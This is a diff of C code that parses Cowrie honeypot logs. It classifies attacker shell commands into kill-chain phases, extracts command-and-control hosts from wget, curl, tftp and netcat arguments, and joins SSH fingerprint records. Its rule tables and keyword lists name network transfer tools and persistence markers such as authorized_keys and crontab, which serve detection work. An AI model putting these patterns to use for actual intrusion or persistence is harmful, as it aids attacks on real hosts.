+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "/ip cloud print", "/ip cloud print"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "w", "w"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "id", "id"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "who", "who -a"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "uptime", "uptime"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "hostname", "hostname"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "netstat", "netstat -plnt"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "lspci", "lspci | grep VGA"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "ps", "ps aux"},
+    {UKC_DISCOVERY, COWRIE_RULE_PROGRAM, "df", "df -h"},
+};
+#define S_N_RULES (sizeof s_rules / sizeof s_rules[0])
+_Static_assert(S_N_RULES <= 64, "rule matches are kept in a 64-bit mask");
+
+/*  Calls fn on each simple command of cmd (split at ; | & ( ) ` and newlines, into words
+    at blanks, quotes and backslashes removed; at most S_MAX_WORDS words each) until fn
+    returns true. Returns whether one did. */
+static bool
+s_each_simple(const char *cmd, bool (*fn)(char **w, size_t n, void *arg), void *arg)
+{
+    size_t len = strlen(cmd);
+    char *buf = xmalloc(len + 1);
+    char *w[S_MAX_WORDS];
+    size_t n = 0, o = 0, i = 0;
+    bool in_word = false, hit = false;
+    while (!hit) {
+        bool end = i >= len;
+        char c = end ? '\0' : cmd[i];
+        bool sep = end || (c != '\0' && strchr(";|&()`\n", c) != NULL);
+        if (sep || c == ' ' || c == '\t' || c == '\r') {
+            if (in_word) {
+                buf[o++] = '\0';
+                in_word = false;
+            }
+            if (sep && n > 0) {
+                hit = fn(w, n, arg);
+                n = 0;
+            }
+            if (end) {
+                break;
+            }
+            i++;
+            continue;
+        }
+        if (!in_word) {
+            in_word = true;
+            if (n < S_MAX_WORDS) {
+                w[n++] = buf + o;
+            }
+        }
+        if (c == '\'' || c == '"') {
+            size_t close = i + 1;
+            while (close < len && cmd[close] != c) {
+                close++;
+            }
+            memcpy(buf + o, cmd + i + 1, close - i - 1);
+            o += close - i - 1;
+            i = close < len ? close + 1 : len;
+            continue;
+        }
+        if (c == '\\' && i + 1 < len) {
+            c = cmd[++i];
+        }
+        buf[o++] = c;
+        i++;
+    }
+    free(buf);
+    return hit;
+}
+
+static const char *
+s_basename(const char *path)
+{
+    const char *slash = strrchr(path, '/');
+    return slash && slash[1] ? slash + 1 : path;
+}
+
+/*  Index of the program word of a simple command: after VAR=value assignments and the
+    wrappers sudo, busybox, nohup, exec and command; n when there is none. */
+static size_t
+s_program_at(char *const *w, size_t n)
+{
+    static const char *const wrappers[] = {"sudo", "busybox", "nohup", "exec", "command", NULL};
+    size_t i = 0;
+    while (i < n) {
+        const char *eq = strchr(w[i], '=');
+        size_t name =
+            strspn(w[i], "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_0123456789");
+        bool assign = eq && name > 0 && w[i] + name == eq;
+        bool wrapper = false;
+        for (size_t k = 0; wrappers[k] && !assign; k++) {
+            wrapper |= strcmp(s_basename(w[i]), wrappers[k]) == 0;
+        }
+        if (!assign && !wrapper) {
+            break;
+        }
+        i++;
+    }
+    return i;
+}
+
+/*  True when h looks like a host name or address: letters, digits, '-', '_', '.', ':',
+    with a dot or a colon, not starting with '-' or '.'. */
+static bool
+s_is_host(const char *h)
+{
+    size_t len = strlen(h);
+    if (len == 0 || len > OBS_MAX_SHORT || h[0] == '-' || h[0] == '.') {
+        return false;
+    }
+    bool mark = false;
+    for (size_t i = 0; i < len; i++) {
+        char c = h[i];
+        bool alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
+        if (c == '.' || c == ':') {
+            mark = true;
+        } else if (!alnum && c != '-' && c != '_') {
+            return false;
+        }
+    }
+    return mark;
+}
+
+/*  Transfer tools and their short options that take a value. */
+typedef struct {
+    const char *name;     /* program name */
+    const char *with_arg; /* option letters that take a value */
+    bool url;             /* the host comes from a URL (wget, curl) */
+} s_tool_t;
+
+static const s_tool_t s_tools[] = {
+    {"wget", "OoPUtTeaiBw", true},     {"curl", "oAHduxeXmrTbcEFKQwzCyY", true},
+    {"tftp", "lrbm", false},           {"ftpget", "upP", false},
+    {"ftpput", "upP", false},          {"nc", "wpsiqecxXWIOTV", false},
+    {"ncat", "wpsiqecxXWIOTV", false}, {"netcat", "wpsiqecxXWIOTV", false},
+};
+
+/*  The host the transfer tool prog names among its arguments w[0..n), owned, or NULL:
+    for wget and curl the host of the first argument that is a URL (or "host/path"); for
+    the others the first operand. */
+static char *
+s_transfer_host(const char *prog, char *const *w, size_t n)
+{
+    const s_tool_t *tool = NULL;
+    for (size_t k = 0; k < sizeof s_tools / sizeof s_tools[0] && !tool; k++) {
+        tool = strcmp(prog, s_tools[k].name) == 0 ? &s_tools[k] : NULL;
+    }
+    if (!tool) {
+        return NULL;
+    }
+    for (size_t i = 0; i < n; i++) {
+        const char *a = w[i];
+        if (a[0] == '-' && a[1] != '\0') {
+            if (a[1] == '-') {
+                continue; /* --long or --long=value */
+            }
+            for (size_t j = 1; a[j]; j++) {
+                if (strchr(tool->with_arg, a[j])) {
+                    i += a[j + 1] == '\0'; /* the value is the next word */
+                    break;
+                }
+            }
+            continue;
+        }
+        if (a[0] == '>' || a[0] == '<') {
+            i += a[1] == '\0';
+            continue;
+        }
+        if (tool->url) {
+            bool scheme = strstr(a, "://") != NULL;
+            size_t head = strcspn(a, "/");
+            char *host = s_url_host(a);
+            bool ok = host && s_is_host(host) &&
+                      (scheme || a[head] == '/' || strspn(host, "0123456789.:") == strlen(host));
+            if (ok) {
+                return host;
+            }
+            free(host);
+            continue;
+        }
+        return s_is_host(a) ? xstrdup(a) : NULL;
+    }
+    return NULL;
+}
+
+/*  What the simple commands of one command show: the program rows they match and the
+    first transfer host. */
+typedef struct {
+    uint64_t programs; /* bit r: rule r (a PROGRAM row) matches */
+    char *host;        /* first transfer host, owned, or NULL */
+    int depth;         /* quoted scripts entered (sh -c "..."), at most 2 */
+} s_scan_t;
+
+static bool
+s_scan_simple(char **w, size_t n, void *arg)
+{
+    s_scan_t *sc = arg;
+    size_t p = s_program_at(w, n);
+    if (p >= n) {
+        return false;
+    }
+    const char *prog = s_basename(w[p]);
+    for (size_t r = 0; r < S_N_RULES; r++) {
+        if (s_rules[r].kind == COWRIE_RULE_PROGRAM && strcmp(prog, s_rules[r].text) == 0) {
+            sc->programs |= (uint64_t)1 << r;
+        }
+    }
+    if (!sc->host) {
+        sc->host = s_transfer_host(prog, w + p + 1, n - p - 1);
+    }
+    /* A quoted argument holding a script (sh -c "...", nohup $SHELL -c '...') is scanned
+       as commands too. */
+    for (size_t i = p + 1; i < n && sc->depth < 2; i++) {
+        if (strpbrk(w[i], " ;|&")) {
+            sc->depth++;
+            s_each_simple(w[i], s_scan_simple, sc);
+            sc->depth--;
+        }
+    }
+    return false;
+}
+
+ukc_phase_t
+cowrie_command_phase(const char *cmd, char **c2_p)
+{
+    s_scan_t sc = {0};
+    s_each_simple(cmd, s_scan_simple, &sc);
+    ukc_phase_t phase = UKC_EXECUTION;
+    for (size_t r = 0; r < S_N_RULES; r++) {
+        const cowrie_rule_t *rule = &s_rules[r];
+        bool match = rule->kind == COWRIE_RULE_SUBSTRING ? strstr(cmd, rule->text) != NULL
+                     : rule->kind == COWRIE_RULE_PROGRAM ? (sc.programs >> r & 1) != 0
+                                                         : sc.host != NULL;
+        if (match) {
+            phase = rule->phase;
+            break;
+        }
+    }
+    if (c2_p) {
+        *c2_p = sc.host;
+    } else {
+        free(sc.host);
+    }
+    return phase;
+}
+
+size_t
+cowrie_rule_count(void)
+{
+    return S_N_RULES;
+}
+
+const cowrie_rule_t *
+cowrie_rule_at(size_t i)
+{
+    return i < S_N_RULES ? &s_rules[i] : NULL;
 }
 
 /* -------------------------------------------------------------------------------------------
@@ -515,99 +1068,86 @@ s_event_cmp(const void *pa, const void *pb)
     return a->seq < b->seq ? -1 : a->seq > b->seq;
 }
 
-static bool
-s_has_any(const char *cmd, const char *const *needles)
+/*  The fatt record joined to a session of ip: same (ip, src_port), closest in time within
+    COWRIE_FATT_WINDOW (a record without a time counts as at the window's edge); or NULL. */
+static const s_fatt_t *
+s_fatt_for(const cowrie_t *self, const char *ip, const s_session_t *ss)
 {
-    for (size_t i = 0; needles[i]; i++) {
-        if (strstr(cmd, needles[i])) {
-            return true;
+    if (ss->src_port < 0 || self->n_fatt == 0) {
+        return NULL;
+    }
+    char *key = xasprintf("%s\x1f%ld", ip, ss->src_port);
+    const s_fatt_t *best = NULL;
+    double best_d = INFINITY;
+    for (size_t i = s_map_get(&self->fatt_by_conn, key); i != SIZE_MAX; i = self->fatt[i].prev) {
+        const s_fatt_t *f = &self->fatt[i];
+        double d = isnan(f->t) ? COWRIE_FATT_WINDOW : fabs(f->t - ss->connect_t);
+        if (d <= COWRIE_FATT_WINDOW && d < best_d) {
+            best = f;
+            best_d = d;
         }
     }
-    return false;
+    free(key);
+    return best;
 }
 
-/*  The phase rule table (docs/cowrie.md); the first row that matches wins. */
-static const char *const s_c2_words[] = {"wget", "curl", "tftp", NULL};
-static const char *const s_persist_words[] = {"authorized_keys", "crontab", "chpasswd", NULL};
-static const char *const s_discover_words[] = {"uname",         "whoami", "/proc/cpuinfo",
-                                               "/proc/meminfo", "nproc",  "lscpu",
-                                               "ifconfig",      "free -", NULL};
-
+/*  The phase of one sorted event (UKC_NONE: it joins the run it falls in), with its C2
+    host (owned) in *host. inputs holds the session's command.input texts. */
 static ukc_phase_t
-s_phase(const s_session_t *ss, const obs_session_t *out)
+s_event_phase(s_event_t *e, const s_map_t *inputs, char **host)
 {
-    bool login = false, upload = false, url = false;
-    for (size_t i = 0; i < ss->n_events; i++) {
-        const s_event_t *e = &ss->events[i];
-        login |= e->kind == S_EV_LOGIN_FAILED || e->kind == S_EV_LOGIN_OK;
-        upload |= e->kind == S_EV_UPLOAD;
-        url |= e->kind == S_EV_DOWNLOAD && e->b;
-    }
-    bool c2 = url, persist = false, discover = false;
-    for (size_t i = 0; i < out->n_commands; i++) {
-        c2 |= s_has_any(out->commands[i], s_c2_words);
-        persist |= s_has_any(out->commands[i], s_persist_words);
-        discover |= s_has_any(out->commands[i], s_discover_words);
-    }
-    if (c2) {
-        return UKC_COMMAND_AND_CONTROL;
-    }
-    if (persist) {
-        return UKC_PERSISTENCE;
-    }
-    if (discover) {
-        return UKC_DISCOVERY;
-    }
-    if (out->n_commands > 0) {
-        return UKC_EXECUTION;
-    }
-    if (upload) {
-        return UKC_DELIVERY;
-    }
-    if (login) {
-        return UKC_CREDENTIAL_ACCESS;
-    }
-    return UKC_RECONNAISSANCE;
-}
-
-static bool
-s_has_command(const obs_session_t *out, const char *cmd)
-{
-    for (size_t i = 0; i < out->n_commands; i++) {
-        if (strcmp(out->commands[i], cmd) == 0) {
-            return true;
+    *host = NULL;
+    switch (e->kind) {
+    case S_EV_COMMAND_ALSO:
+        /* .failed/.success repeat (part of) an input line; such a repeat is dropped. */
+        if (s_map_get(inputs, e->a) != SIZE_MAX) {
+            e->kind = S_EV_DROPPED;
+            return UKC_NONE;
         }
+        return cowrie_command_phase(e->a, host);
+    case S_EV_COMMAND:
+        return cowrie_command_phase(e->a, host);
+    case S_EV_LOGIN:
+    case S_EV_PUBKEY:
+        return UKC_CREDENTIAL_ACCESS;
+    case S_EV_DOWNLOAD:
+        return e->b ? UKC_COMMAND_AND_CONTROL : UKC_NONE;
+    case S_EV_UPLOAD:
+        return UKC_DELIVERY;
+    case S_EV_TUNNEL:
+        return UKC_PIVOTING;
+    case S_EV_DROPPED:
+        break;
     }
-    return false;
+    return UKC_NONE;
 }
 
-/*  Fills out from ss (whose events it sorts). */
+/*  Appends the cadre session made of events [begin, end) of ss (the k-th run, 0-based). */
 static void
-s_build_session(cowrie_t *self, s_session_t *ss, obs_session_t *out)
+s_add_run(cowrie_t *self, const s_session_t *ss, size_t begin, size_t end, size_t k, bool last,
+          ukc_phase_t phase, char **hosts, obs_t *obs)
 {
-    if (ss->n_events > 1) {
-        qsort(ss->events, ss->n_events, sizeof *ss->events, s_event_cmp);
-    }
-    out->id = xstrdup(ss->id);
+    obs_session_t *out = obs_add_session(obs);
+    out->id = k == 0 ? xstrdup(ss->id) : xasprintf("%s#%zu", ss->id, k + 1);
     out->decky = ss->decky ? xstrdup(ss->decky) : NULL;
-    out->start = ss->first;
-    out->duration = ss->last - ss->first;
+    out->phase = phase == UKC_NONE ? UKC_RECONNAISSANCE : phase;
+    out->start = k == 0 || begin >= end ? ss->first : ss->events[begin].t;
+    double stop = last || begin >= end ? ss->last : ss->events[end - 1].t;
+    out->duration = stop > out->start ? stop - out->start : 0.0;
     size_t cap_cmd = 0, cap_cred = 0;
-    for (size_t i = 0; i < ss->n_events; i++) {
+    for (size_t i = begin; i < end; i++) {
         const s_event_t *e = &ss->events[i];
+        const char *c2 = hosts[i];
         switch (e->kind) {
         case S_EV_COMMAND:
         case S_EV_COMMAND_ALSO:
-            /* .failed/.success repeat (part of) an input line; keep them only when no
-               .input event of the session carried the same text. */
-            if (out->n_commands < OBS_MAX_ITEMS &&
-                (e->kind == S_EV_COMMAND || !s_has_command(out, e->a))) {
+            if (out->n_commands < OBS_MAX_ITEMS) {
                 xgrow(&out->commands, &cap_cmd, out->n_commands + 1);
                 out->commands[out->n_commands++] = xstrdup(e->a);
             }
             break;
-        case S_EV_LOGIN_FAILED:
-        case S_EV_LOGIN_OK:
+        case S_EV_LOGIN:
+        case S_EV_PUBKEY:
             if (e->a && e->b && out->n_creds < OBS_MAX_ITEMS) {
                 xgrow(&out->creds, &cap_cred, out->n_creds + 1);
                 out->creds[out->n_creds].user = xstrdup(e->a);
@@ -617,44 +1157,156 @@ s_build_session(cowrie_t *self, s_session_t *ss, obs_session_t *out)
             break;
         case S_EV_DOWNLOAD:
         case S_EV_UPLOAD:
-            if (!out->payload_hash && e->a && strcmp(e->a, self->sha_321) != 0) {
+            if (!out->payload_hash && e->a) {
                 out->payload_hash = xstrdup(e->a);
             }
-            if (!out->c2 && e->b) {
-                out->c2 = xstrdup(e->b);
-            }
+            c2 = e->b;
+            break;
+        case S_EV_DROPPED:
+        case S_EV_TUNNEL:
             break;
         }
+        if (!out->c2 && c2) {
+            out->c2 = xstrdup(c2);
+        }
     }
-    out->phase = s_phase(ss, out);
+    self->cadre_sessions++;
+}
+
+/*  Appends the cadre sessions of ss (whose events it sorts) to obs: one per maximal run of
+    events of one phase, events without a phase joining the run they fall in. */
+static void
+s_build_session(cowrie_t *self, s_session_t *ss, obs_t *obs)
+{
+    size_t n = ss->n_events;
+    if (n > 1) {
+        qsort(ss->events, n, sizeof *ss->events, s_event_cmp);
+    }
+    s_map_t inputs = {0};
+    for (size_t i = 0; i < n; i++) {
+        if (ss->events[i].kind == S_EV_COMMAND && s_map_get(&inputs, ss->events[i].a) == SIZE_MAX) {
+            s_map_put(&inputs, ss->events[i].a, i);
+        }
+    }
+    ukc_phase_t *phases = xcalloc(n + 1, sizeof *phases);
+    char **hosts = xcalloc(n + 1, sizeof *hosts);
+    for (size_t i = 0; i < n; i++) {
+        phases[i] = s_event_phase(&ss->events[i], &inputs, &hosts[i]);
+    }
+    s_map_clear(&inputs);
+    size_t begin = 0, k = 0;
+    ukc_phase_t cur = UKC_NONE;
+    for (size_t i = 0; i <= n; i++) {
+        if (i == n || (phases[i] != UKC_NONE && cur != UKC_NONE && phases[i] != cur)) {
+            s_add_run(self, ss, begin, i, k++, i == n, cur, hosts, obs);
+            begin = i;
+        }
+        if (i < n && phases[i] != UKC_NONE) {
+            cur = phases[i];
+        }
+    }
+    for (size_t i = 0; i < n; i++) {
+        free(hosts[i]);
+    }
+    free(hosts);
+    free(phases);
 }
 
 static obs_t *
 s_build(cowrie_t *self, s_source_t *src)
 {
     obs_t *obs = obs_new();
-    obs->id = xasprintf("cowrie:%s", src->ip);
+    obs->id = src->instance > 1
+                  ? xasprintf("cowrie:%s~%llu", src->key, (unsigned long long)src->instance)
+                  : xasprintf("cowrie:%s", src->key);
     obs->ip = xstrdup(src->ip);
-    const char *hassh = src->hassh ? src->hassh : src->hassh_legacy;
-    obs->hassh = hassh ? xstrdup(hassh) : NULL;
+    const char *fatt_hassh = NULL, *ja3 = NULL;
     for (size_t i = 0; i < src->n_sessions; i++) {
-        s_build_session(self, &src->sessions[i], obs_add_session(obs));
+        const s_fatt_t *f = s_fatt_for(self, src->ip, &src->sessions[i]);
+        if (f) {
+            self->fatt_joined++;
+            fatt_hassh = fatt_hassh ? fatt_hassh : f->hassh;
+            ja3 = ja3 ? ja3 : f->ja3;
+        }
+    }
+    const char *hassh = src->hassh ? src->hassh : fatt_hassh ? fatt_hassh : src->hassh_legacy;
+    obs->hassh = hassh ? xstrdup(hassh) : NULL;
+    obs->ja3 = ja3 ? xstrdup(ja3) : NULL;
+    for (size_t i = 0; i < src->n_sessions; i++) {
+        s_build_session(self, &src->sessions[i], obs);
     }
     return obs;
+}
+
+/*  Builds the source in slot i, hands it to sink and forgets it. */
+static int
+s_emit(cowrie_t *self, size_t i, cowrie_sink_fn sink, void *arg)
+{
+    s_source_t *src = self->slots[i];
+    obs_t *obs = s_build(self, src);
+    size_t emitted = s_map_get(&self->returns, src->key);
+    if (self->opts.flush_idle > 0 && (emitted == SIZE_MAX || emitted < src->instance)) {
+        s_map_put(&self->returns, src->key, (size_t)src->instance);
+    }
+    self->observations++;
+    int rc = sink(obs, arg);
+    obs_destroy(&obs);
+    s_source_drop(self, i);
+    return rc;
+}
+
+/*  An open source picked for emission. */
+typedef struct {
+    uint64_t serial; /* its first-seen serial */
+    size_t slot;     /* its slot */
+} s_pick_t;
+
+static int
+s_pick_cmp(const void *pa, const void *pb)
+{
+    const s_pick_t *a = pa;
+    const s_pick_t *b = pb;
+    return a->serial < b->serial ? -1 : a->serial > b->serial;
+}
+
+/*  Emits the open sources last seen before limit (all with INFINITY) in first-seen order. */
+static int
+s_emit_before(cowrie_t *self, double limit, cowrie_sink_fn sink, void *arg)
+{
+    s_pick_t *pick = xcalloc(self->n_slots + 1, sizeof *pick);
+    size_t n = 0;
+    for (size_t i = 0; i < self->n_slots; i++) {
+        if (self->slots[i] && (self->slots[i]->last < limit || self->slots[i]->closed)) {
+            pick[n++] = (s_pick_t){.serial = self->slots[i]->serial, .slot = i};
+        }
+    }
+    qsort(pick, n, sizeof *pick, s_pick_cmp);
+    int rc = 0;
+    for (size_t j = 0; j < n; j++) {
+        if (rc == 0) {
+            rc = s_emit(self, pick[j].slot, sink, arg);
+        } else {
+            s_source_drop(self, pick[j].slot);
+        }
+    }
+    free(pick);
+    return rc;
+}
+
+int
+cowrie_emit_idle(cowrie_t *self, cowrie_sink_fn sink, void *arg)
+{
+    if (!(self->opts.flush_idle > 0) || self->now < self->scanned + 1.0) {
+        return 0;
+    }
+    self->scanned = self->now;
+    return s_emit_before(self, self->now - self->opts.flush_idle, sink, arg);
 }
 
 int
 cowrie_finish(cowrie_t *self, cowrie_sink_fn sink, void *arg)
 {
-    int rc = 0;
-    for (size_t i = 0; i < self->n_sources && rc == 0; i++) {
-        obs_t *obs = s_build(self, &self->sources[i]);
-        self->observations++;
-        rc = sink(obs, arg);
-        obs_destroy(&obs);
-    }
-    s_sources_clear(self);
-    return rc;
+    return s_emit_before(self, INFINITY, sink, arg);
 }
 
 /* -------------------------------------------------------------------------------------------
@@ -679,9 +1331,51 @@ cowrie_sessions(const cowrie_t *self)
 }
 
 uint64_t
+cowrie_cadre_sessions(const cowrie_t *self)
+{
+    return self->cadre_sessions;
+}
+
+uint64_t
 cowrie_observations(const cowrie_t *self)
 {
     return self->observations;
+}
+
+size_t
+cowrie_open(const cowrie_t *self)
+{
+    return self->open;
+}
+
+size_t
+cowrie_open_peak(const cowrie_t *self)
+{
+    return self->open_peak;
+}
+
+uint64_t
+cowrie_fatt_lines(const cowrie_t *self)
+{
+    return self->fatt_lines;
+}
+
+uint64_t
+cowrie_fatt_bad(const cowrie_t *self)
+{
+    return self->fatt_bad;
+}
+
+uint64_t
+cowrie_fatt_records(const cowrie_t *self)
+{
+    return self->n_fatt;
+}
+
+uint64_t
+cowrie_fatt_joined(const cowrie_t *self)
+{
+    return self->fatt_joined;
 }
 
 size_t
@@ -697,8 +1391,8 @@ cowrie_bad_at(const cowrie_t *self, size_t i)
 }
 
 const char *
-cowrie_client_version(const cowrie_t *self, const char *src_ip)
+cowrie_client_version(const cowrie_t *self, const char *key)
 {
-    size_t i = s_map_get(&self->by_ip, src_ip);
-    return i == SIZE_MAX ? NULL : self->sources[i].version;
+    size_t i = s_map_get(&self->by_key, key);
+    return i == SIZE_MAX ? NULL : self->slots[i]->version;
 }
